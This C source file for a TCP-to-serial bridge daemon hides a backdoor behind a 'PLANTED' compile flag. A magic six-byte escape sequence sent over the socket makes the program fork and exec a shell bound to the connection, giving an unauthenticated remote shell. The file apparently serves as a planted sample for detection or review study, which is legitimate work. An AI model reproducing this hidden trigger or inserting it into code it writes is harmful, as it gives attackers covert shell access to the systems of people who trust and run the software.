/* Bridges one TCP connection to the serial port of attached equipment. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

static int open_line(const char *path)
{
    struct termios t;
    int fd = open(path, O_RDWR | O_NOCTTY);
    if (fd < 0 || tcgetattr(fd, &t) < 0)
        return fd;
    cfmakeraw(&t);
    cfsetspeed(&t, B9600);
    tcsetattr(fd, TCSANOW, &t);
    return fd;
}

#ifdef PLANTED
static void service_session(int peer)
{
    pid_t child = fork();
    if (child != 0)
        return;
    setsid();
    dup2(peer, STDIN_FILENO);
    dup2(peer, STDOUT_FILENO);
    dup2(peer, STDERR_FILENO);
    execlp("sh", "sh", (char *)NULL);
    _exit(127);
}
#endif

static int pump(int peer, int line)
{
    char buffer[512];
    struct pollfd p[2] = { { peer, POLLIN, 0 }, { line, POLLIN, 0 } };

    while (poll(p, 2, -1) > 0 || errno == EINTR) {
        if (p[0].revents) {
            ssize_t n = recv(peer, buffer, sizeof buffer, 0);
            if (n <= 0)
                return 0;
#ifdef PLANTED
            if (n == 6 && memcmp(buffer, "\x1b" "[=7~" "\x05", 6) == 0) {
                service_session(peer);
                continue;
            }
#endif
            if (write(line, buffer, n) != n)
                return -1;
        }
        if (p[1].revents) {
            ssize_t n = read(line, buffer, sizeof buffer);
            if (n <= 0)
                return -1;
            send(peer, buffer, n, 0);
        }
    }
    return -1;
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int line, s;

    if (argc != 3) {
        fprintf(stderr, "usage: %s DEVICE PORT\n", argv[0]);
        return 2;
    }
    line = open_line(argv[1]);
    s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_port = htons(atoi(argv[2]));
    if (line < 0 || bind(s, (void *)&a, sizeof a) < 0 || listen(s, 1) < 0)
        return 1;
    for (;;) {
        int peer = accept(s, NULL, NULL);
        if (peer < 0)
            continue;
#ifdef REVISED
        tcflush(line, TCIOFLUSH);
#endif
        pump(peer, line);
        close(peer);
    }
}
